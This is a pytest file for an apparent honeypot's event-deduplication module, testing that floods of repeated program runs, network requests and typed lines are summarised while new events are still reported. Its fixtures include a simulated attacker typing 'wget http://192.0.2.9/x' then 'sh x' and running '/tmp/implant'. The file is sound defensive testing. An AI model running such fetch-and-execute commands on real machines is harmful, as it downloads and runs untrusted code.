"""A session that says the same without end: told whole as far as it has room, then summed up; what is new is told."""

from __future__ import annotations

import asyncio

import msgspec
import pytest

from mirage.app import repeats
from mirage.base.events import (
    KINDS,
    ChannelClosed,
    ConnectionClosed,
    Event,
    EventsRepeated,
    LineEntered,
    LoginAttempted,
    NetworkAsked,
    ProgramExecuted,
)

CLOSED = ConnectionClosed(reason="", duration=0)


class Room:
    """A session with little of it, on a clock of its own."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch, *, room: int = 1000, reserve: int = 1000, kind: int = 0) -> None:
        monkeypatch.setattr(repeats, "ROOM", room)
        monkeypatch.setattr(repeats, "RESERVE", reserve)
        monkeypatch.setattr(repeats, "KIND_RESERVE", kind)
        self.told = list[Event]()
        self.time = 0.0
        self.emit = repeats.Repeats(self.told.append, lambda: self.time)


def ran(path: bytes, *argv: bytes) -> ProgramExecuted:
    return ProgramExecuted(path=path, argv=list(argv), pid=7)


def asked(target: bytes, action: str = "connect") -> NetworkAsked:
    return NetworkAsked(action=action, target=target, verdict="refused")


async def test_what_is_repeated_beyond_the_room_is_counted_by_kind_and_name(monkeypatch: pytest.MonkeyPatch) -> None:
    session = Room(monkeypatch)
    for _ in range(500):
        session.emit(ran(b"/bin/true", b"true"))
        session.emit(asked(b"192.0.2.1"))
    session.emit(CLOSED)
    assert session.told == [
        ran(b"/bin/true", b"true"),
        asked(b"192.0.2.1"),
        ran(b"/bin/true", b"true"),
        asked(b"192.0.2.1"),
        ran(b"/bin/true", b"true"),
        EventsRepeated(repeated="NetworkAsked", name=b"connect", count=498),
        EventsRepeated(repeated="ProgramExecuted", name=b"/bin/true", count=497),
        CLOSED,
    ]


async def test_what_is_new_is_told_in_the_midst_of_a_flood(monkeypatch: pytest.MonkeyPatch) -> None:
    session = Room(monkeypatch)
    flood = [ran(b"/bin/true", b"true")] * 500
    for one in (*flood, ran(b"/tmp/implant", b"implant", b"-c", b"x"), *flood, asked(b"192.0.2.1", "resolve"), *flood):
        session.emit(one)
    assert [one for one in session.told if one not in flood] == [
        ran(b"/tmp/implant", b"implant", b"-c", b"x"), asked(b"192.0.2.1", "resolve")
    ]  # fmt: skip


async def test_a_flood_hides_no_new_line_and_no_new_target_of_a_known_name(monkeypatch: pytest.MonkeyPatch) -> None:
    session = Room(monkeypatch, reserve=0, kind=1000)
    typed = [LineEntered(text=b"wget http://192.0.2.9/x", mode="interactive"), LineEntered(text=b"sh x", mode="interactive")]
    for number in range(500):
        session.emit(ran(b"/bin/true", b"%d" % number))
        session.emit(LineEntered(text=b"true", mode="interactive"))
    session.emit(asked(b"192.0.2.1"))
    for one in (*typed, asked(b"192.0.2.9"), *typed, asked(b"192.0.2.9")):
        session.emit(one)
    assert session.told[-4:] == [asked(b"192.0.2.1"), *typed, asked(b"192.0.2.9")]
    assert len(session.told) < 16


async def test_names_without_end_are_bounded_too(monkeypatch: pytest.MonkeyPatch) -> None:
    session = Room(monkeypatch)
    for number in range(500):
        session.emit(ran(b"/tmp/x%d" % number, b"x"))
    whole = len(session.told)
    session.emit.tell()
    sums = [one for one in session.told[whole:] if isinstance(one, EventsRepeated)]
    assert whole < 10
    assert len(sums) == repeats.NAMES + 1
    assert sums[-1] == EventsRepeated(repeated="ProgramExecuted", count=500 - whole - repeats.NAMES)


async def test_much_in_one_event_counts_as_much(monkeypatch: pytest.MonkeyPatch) -> None:
    session = Room(monkeypatch, room=100_000, reserve=0)
    for _ in range(20):
        session.emit(ran(b"/bin/true", b"x" * 32_000))
    assert len(session.told) == 3


async def test_room_comes_back_with_time(monkeypatch: pytest.MonkeyPatch) -> None:
    session = Room(monkeypatch)
    for _ in range(20):
        session.emit(asked(b"192.0.2.1"))
    session.time += 3600
    session.emit(asked(b"192.0.2.2"))
    assert session.told[-1] == asked(b"192.0.2.2")


async def test_the_sums_are_told_while_the_session_goes_on(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(repeats, "PAUSE", 0.0)
    session, told = Room(monkeypatch), asyncio.Event()
    monkeypatch.setattr(session.emit, "_emit", lambda event: told.set() if isinstance(event, EventsRepeated) else None)
    for _ in range(20):
        session.emit(asked(b"192.0.2.1"))
    await asyncio.wait_for(told.wait(), 60)


async def test_what_cannot_be_repeated_without_end_is_always_told(monkeypatch: pytest.MonkeyPatch) -> None:
    session = Room(monkeypatch, room=0, reserve=0)
    tried = LoginAttempted(method="password", username=b"root", accepted=False)
    for _ in range(100):
        session.emit(tried)
        session.emit(ChannelClosed(channel=1))
    assert session.told == [tried] * 100


@pytest.mark.parametrize("kind", repeats.REPEATED, ids=lambda kind: kind.__name__)
def test_each_kind_has_the_field_that_names_it(kind: type[Event]) -> None:
    field = repeats.REPEATED[kind]
    types = {one.name: one.type for one in msgspec.structs.fields(KINDS[kind.__name__])}
    assert not field or types[field] in (bytes, str)
